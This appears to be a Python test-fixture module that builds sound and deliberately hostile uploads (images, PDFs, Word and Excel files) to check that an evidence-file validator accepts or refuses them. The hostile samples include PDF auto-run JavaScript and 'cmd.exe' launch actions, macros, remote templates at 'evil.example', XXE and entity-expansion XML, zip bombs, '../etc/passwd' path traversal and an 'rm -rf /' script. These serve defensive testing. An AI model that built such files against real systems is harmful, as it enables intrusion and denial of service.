"""Sound files of every kind that is taken as evidence, and hostile ones built from them by hand."""

import io
import struct
import zipfile
import zlib

from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from measures.evidence_files.refusal import (
    ACTING,
    BROKEN_OFFICE,
    BROKEN_PDF,
    LOCKED,
    MACRO,
    NOT_AS_NAMED,
    TOO_MUCH,
)

MARK = b"<script>hidden mark</script>"
MEGABYTE = 1024 * 1024
NO_PICTURE = "อ่านแฟ้มนี้เป็นภาพ PNG หรือ JPEG ไม่ได้ โปรดเลือกแฟ้มภาพอื่น"
TOO_MANY_PIXELS = "ภาพมีจำนวนจุดมากเกินไป โปรดย่อภาพแล้วลองใหม่"
TYPES_XML = "[Content_Types].xml"


# -- Sound -----------------------------------------------------------------------------------------


def picture(kind="JPEG", size=(120, 80), mode="RGB", **options):
    encoded = io.BytesIO()
    Image.new(mode, size, "navy").save(encoded, kind, **options)
    return encoded.getvalue()


def photo(orientation=1):
    """A JPEG as a phone writes it: with place, owner and the way it was held."""
    source = Image.new("RGB", (120, 80), "navy")
    exif = source.getexif()
    exif[0x0112], exif[0x013B] = orientation, "hidden mark"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif, comment=MARK)


def several_in_one():
    encoded = io.BytesIO()
    Image.new("RGB", (120, 80), "navy").save(
        encoded, "MPO", save_all=True, append_images=[Image.new("RGB", (120, 80))]
    )
    return encoded.getvalue()


def pdf(change=lambda writer: None):
    """A PDF of one page; `change` is given the writer before it is written."""
    writer, content = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(content)
    return content.getvalue()


def docx():
    document, content = Document(), io.BytesIO()
    document.add_paragraph("จัดทำคู่มือแล้ว")
    document.save(content)
    return content.getvalue()


def xlsx():
    book, content = Workbook(), io.BytesIO()
    book.active["A1"] = "จัดทำคู่มือแล้ว"
    book.save(content)
    return content.getvalue()


# -- PDF -------------------------------------------------------------------------------------------


def action(**entries):
    """A change that makes the PDF do something when it is opened."""
    names = {NameObject(f"/{key}"): value for key, value in entries.items()}

    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(names))

    return change


def launch_by_reference(writer):
    kind = writer._add_object(NameObject("/Launch"))
    action(S=kind, F=TextStringObject("cmd.exe"))(writer)


def script_behind_a_previous(writer):
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/Movie"), NameObject("/JS"): TextStringObject("x")}
    )
    action(S=NameObject("/GoTo"), Prev=writer._add_object(script))(writer)


def locked(password):
    def change(writer):
        writer.encrypt(password, owner_password="owner", algorithm="RC4-128")

    return change


def carrying(name):
    return lambda writer: writer.add_attachment(name, b"MZ")


def nested(depth):
    item = ArrayObject()
    for _ in range(depth):
        item = ArrayObject([item])

    def change(writer):
        writer._root_object[NameObject("/Deep")] = item

    return change


def in_compressed_objects():
    """A PDF whose action stands in a compressed stream of objects, where no search for its words finds it."""
    inner = b"4 0 5 38 << /S /JavaScript /JS (app.alert) >>     << /Type /Nothing >>"
    stream = zlib.compress(inner)
    objects = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n",
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n",
        b"6 0 obj << /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d >> stream\n%s\nendstream endobj\n"
        % (len(stream), stream),
    ]
    body, places = b"%PDF-1.5\n", {}
    for number, content in zip((1, 2, 3, 6), objects, strict=True):
        places[number] = len(body)
        body += content
    start = len(body)
    rows = {0: (0, 0, 255), 4: (2, 6, 0), 5: (2, 6, 1), 7: (1, start, 0)}
    rows |= {number: (1, place, 0) for number, place in places.items()}
    table = zlib.compress(b"".join(struct.pack(">BHB", *rows[number]) for number in range(8)))
    head = b"7 0 obj << /Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>" % len(
        table
    )
    return body + head + b" stream\n" + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def pages_in_a_ring():
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [2 0 R] /Count 1 >> endobj\n"
        b"trailer << /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n"
    )


# -- Word and Excel --------------------------------------------------------------------------------


def repacked(content, changes=None, *, compression=zipfile.ZIP_DEFLATED):
    """The office file with parts replaced or added (bytes), changed (a function of bytes) or left out (None)."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    for name, change in (changes or {}).items():
        parts[name] = change(parts.get(name, b"")) if callable(change) else change
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as target:
        for name, part in parts.items():
            if part is not None:
                target.writestr(name, part)
    return packed.getvalue()


def with_doubled_part(content, name):
    packed = io.BytesIO(content)
    with zipfile.ZipFile(packed, "a") as target:
        target.writestr(name.upper(), b"<x/>")
    return packed.getvalue()


def zip_of(parts):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name, part in parts.items():
            target.writestr(name, part)
    return packed.getvalue()


def replacing(old, new):
    return lambda part: part.replace(old, new)


def with_external(content, rels, kind, target):
    """The file with something that stands outside of it."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    row = f'<Relationship Id="rId99" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return repacked(content, {rels: replacing(b"</Relationships>", row.encode())})


def with_flag(content, place, flags):
    """The zip with the flags of its first entry changed, in the directory."""
    start = content.rindex(b"PK\x05\x06")
    (directory,) = struct.unpack_from("<I", content, start + 16)
    changed = bytearray(content)
    changed[directory + place : directory + place + 2] = struct.pack("<H", flags)
    return bytes(changed)


def with_damage(content):
    """The zip with bytes of its first part changed: it does not fit its checksum."""
    changed = bytearray(content)
    changed[80:90] = bytes(10)
    return bytes(changed)


def bomb(content, name, size):
    return repacked(content, {name: bytes(size)})


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
MAIN = b"wordprocessingml.document.main+xml"
MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"


def accepted():
    """{what it is: (name, content)} of files that are kept."""
    return {
        "photo": ("ภาพ.jpg", photo()),
        "several pictures in one": ("ภาพ.jpeg", several_in_one()),
        "large photo": ("ภาพ.jpg", picture(size=(9000, 6000))),
        "screenshot": ("ภาพ.png", picture("PNG", mode="RGBA")),
        "picture of a palette": ("ภาพ.png", picture("PNG", mode="P")),
        "PDF": ("คู่มือ.pdf", pdf()),
        "PDF that everybody reads": ("คู่มือ.pdf", pdf(locked(""))),
        "PDF that carries its data": ("ใบเสร็จ.pdf", pdf(carrying("receipt.xml"))),
        "Word": ("คู่มือ.docx", docx()),
        "Excel": ("คู่มือ.xlsx", xlsx()),
        "Word with a chart": (
            "ก.docx",
            repacked(docx(), {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}),
        ),
        "Word with a link": (
            "ก.docx",
            with_external(docx(), DOCUMENT_RELS, "hyperlink", "https://example.go.th/"),
        ),
        "Word with a template of its own disk": (
            "ก.docx",
            with_external(docx(), DOCUMENT_RELS, "attachedTemplate", "file:///C:\\แบบ\\Normal.dotm"),
        ),
        "unpressed Word": ("ก.docx", repacked(docx(), compression=zipfile.ZIP_STORED)),
    }


def harmless():
    """{what it is: (name, content)}: kept, but nothing of the mark may be."""
    return {
        "JPEG with place and comment": ("ภาพ.jpg", photo(6)),
        "JPEG and page in one": ("ภาพ.jpg", picture() + MARK),
        "JPEG and zip in one": ("ภาพ.jpg", picture() + zip_of({"x.html": MARK})),
        "PNG with text": ("ภาพ.png", with_text(picture("PNG"))),
        "PNG and page in one": ("ภาพ.png", picture("PNG") + MARK),
        "PNG with profile": ("ภาพ.png", picture("PNG", icc_profile=MARK * 9)),
        "JPEG with profile": ("ภาพ.jpg", picture(icc_profile=MARK * 9)),
        "JPEG with XMP": ("ภาพ.jpg", picture(xmp=MARK)),
    }


def with_text(png):
    chunk = b"tEXtComment\x00" + MARK
    return (
        png[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk)) + png[33:]
    )


def huge_png(side):
    """A small PNG that claims a large side."""
    body = b"IHDR" + side.to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + body
        + struct.pack(">I", zlib.crc32(body))
        + picture("PNG")[33:]
    )


FOREIGN = {
    "nothing": b"",
    "page": b"<!DOCTYPE html><script>alert(1)</script>",
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "program": b"MZ\x90\x00\x03" + bytes(200),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "zip": zip_of({"a.exe": b"MZ"}),
}
WRONG = {"pdf": NOT_AS_NAMED, "jpg": NO_PICTURE, "png": NO_PICTURE, "docx": NOT_AS_NAMED, "xlsx": NOT_AS_NAMED}


def foreign():
    """Every kind of name over what is something else."""
    return {
        f"{what} as {suffix}": (f"แฟ้ม.{suffix}", content, sentence)
        for what, content in FOREIGN.items()
        for suffix, sentence in WRONG.items()
    }


def hostile_pictures():
    return {
        "PNG as JPEG": ("ภาพ.jpg", picture("PNG"), NOT_AS_NAMED),
        "JPEG as PNG": ("ภาพ.png", picture(), NOT_AS_NAMED),
        "GIF": ("ภาพ.png", picture("GIF"), NO_PICTURE),
        "BMP": ("ภาพ.jpg", picture("BMP"), NO_PICTURE),
        "TIFF": ("ภาพ.jpg", picture("TIFF"), NO_PICTURE),
        "WebP": ("ภาพ.jpg", picture("WEBP"), NO_PICTURE),
        "cut JPEG": ("ภาพ.jpg", picture(size=(800, 600))[:700], NO_PICTURE),
        "cut PNG": ("ภาพ.png", picture("PNG")[:60], NO_PICTURE),
        "PNG of 30,000 a side": ("ภาพ.png", huge_png(30_000), NO_PICTURE),
        "PNG of 12,000 a side": ("ภาพ.png", huge_png(12_000), TOO_MANY_PIXELS),
    }


def hostile_pdfs():
    javascript = {"S": NameObject("/JavaScript"), "JS": TextStringObject("app.alert(1)")}
    contents = {
        "script": (pdf(action(**javascript)), ACTING),
        "script under another spelling": (
            pdf(action(**javascript)).replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/J#53"),
            ACTING,
        ),
        "script in compressed objects": (in_compressed_objects(), ACTING),
        "script behind a previous": (pdf(script_behind_a_previous), ACTING),
        "launch": (pdf(action(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))), ACTING),
        "launch by reference": (pdf(launch_by_reference), ACTING),
        "file within": (pdf(carrying("x.exe")), ACTING),
        "PDF within": (pdf(carrying("x.pdf")), ACTING),
        "file within of two names": (pdf(carrying("x.txt")).replace(b"/EF", b"/UF (x.exe) /EF"), ACTING),
        "form that is sent": (pdf(action(S=NameObject("/SubmitForm"))), ACTING),
        "form of another kind": (pdf(action(XFA=TextStringObject("x"))), ACTING),
        "data that is fetched": (pdf(action(S=NameObject("/ImportData"))), ACTING),
        "film": (pdf(action(Subtype=NameObject("/RichMedia"))), ACTING),
        "zip behind": (pdf() + zip_of({"x.html": MARK}), ACTING),
        "page before": (MARK + pdf(), NOT_AS_NAMED),
        "password": (pdf(locked("secret")), LOCKED),
        "cut": (pdf()[:-300], BROKEN_PDF),
        "without an end": (pdf().replace(b"%%EOF", b"     "), BROKEN_PDF),
        "head alone": (b"%PDF-1.7\n%%EOF", BROKEN_PDF),
        "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF", BROKEN_PDF),
        "pages in a ring": (pages_in_a_ring(), BROKEN_PDF),
        "very deep": (pdf(nested(300)).replace(b"[ ", b"[" * 3000, 1), BROKEN_PDF),
    }
    return {f"PDF: {what}": ("แฟ้ม.pdf", *rest) for what, rest in contents.items()}


def hostile_office():
    sound = docx()
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "x"><x/>'.encode("utf-16")
    contents = {
        "macros": (repacked(sound, {"word/vbaProject.bin": b"x"}), MACRO),
        "macros in capitals": (repacked(sound, {"WORD/VBAPROJECT.BIN": b"x"}), MACRO),
        "macros by type": (
            repacked(
                sound,
                {TYPES_XML: replacing(b"application/vnd.openxmlformats-officedocument." + MAIN, MACRO_MAIN)},
            ),
            MACRO,
        ),
        "ActiveX": (repacked(sound, {"word/activeX/activeX1.xml": b"<x/>"}), MACRO),
        "buttons": (repacked(sound, {"customUI/customUI.xml": b"<x/>"}), MACRO),
        "old macros": (repacked(sound, {"xl/macrosheets/sheet1.xml": b"<x/>"}), MACRO),
        "OLE object": (repacked(sound, {"word/embeddings/oleObject1.bin": b"x"}), ACTING),
        "program within": (repacked(sound, {"word/embeddings/x.exe": b"MZ"}), ACTING),
        "macro workbook within": (repacked(sound, {"word/embeddings/x.xlsm": b"PK"}), ACTING),
        "template of the net": (
            with_external(sound, DOCUMENT_RELS, "attachedTemplate", "http://evil.example/x.dotm"),
            ACTING,
        ),
        "template of a neighbour": (
            with_external(sound, DOCUMENT_RELS, "attachedTemplate", "file://\\\\evil\\x.dotm"),
            ACTING,
        ),
        "object of the net": (
            with_external(sound, DOCUMENT_RELS, "oleObject", "http://evil.example/x"),
            ACTING,
        ),
        "frame of the net": (with_external(sound, DOCUMENT_RELS, "frame", "http://evil.example/x"), ACTING),
        "DTD": (repacked(sound, {"word/styles.xml": DOCTYPE}), ACTING),
        "DTD in another alphabet": (repacked(sound, {"word/styles.xml": utf16}), ACTING),
        "DTD in the types": (repacked(sound, {TYPES_XML: DOCTYPE}), ACTING),
        "entities that swell": (repacked(sound, {"word/styles.xml": LAUGHS}), ACTING),
        "broken XML": (repacked(sound, {"word/styles.xml": b"<x><y></x>"}), BROKEN_OFFICE),
        "bomb": (bomb(sound, "word/media/image1.png", 250 * MEGABYTE), TOO_MUCH),
        "bomb of many": (
            repacked(sound, {f"word/media/{number}.png": b"" for number in range(3_001)}),
            TOO_MUCH,
        ),
        "doubled part": (with_doubled_part(sound, "word/document.xml"), BROKEN_OFFICE),
        "way out": (repacked(sound, {"word/../../../etc/passwd": b"x"}), BROKEN_OFFICE),
        "way from the root": (repacked(sound, {"/etc/passwd": b"x"}), BROKEN_OFFICE),
        "way out by backslash": (repacked(sound, {"word\\..\\..\\x": b"x"}), BROKEN_OFFICE),
        "locked part": (with_flag(sound, 8, 1), LOCKED),
        "unknown packing": (with_flag(sound, 10, 99), BROKEN_OFFICE),
        "cut": (sound[:-200], BROKEN_OFFICE),
        "damaged": (with_damage(sound), BROKEN_OFFICE),
        "password": (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), LOCKED),
        "old Word": (b"\xd0\xcf\x11\xe0" + bytes(600), NOT_AS_NAMED),
        "without types": (repacked(sound, {TYPES_XML: None}), NOT_AS_NAMED),
        "without text": (repacked(sound, {"word/document.xml": None}), NOT_AS_NAMED),
        "Excel as Word": (xlsx(), NOT_AS_NAMED),
        "archive of Java": (
            zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe"}),
            NOT_AS_NAMED,
        ),
    }
    rows = {f"Word: {what}": ("แฟ้ม.docx", *rest) for what, rest in contents.items()}
    return rows | {"Word as Excel": ("แฟ้ม.xlsx", sound, NOT_AS_NAMED)}


def refused():
    """{what it is: (name, content, the sentence that says why it is not kept)}."""
    return foreign() | hostile_pictures() | hostile_pdfs() | hostile_office()
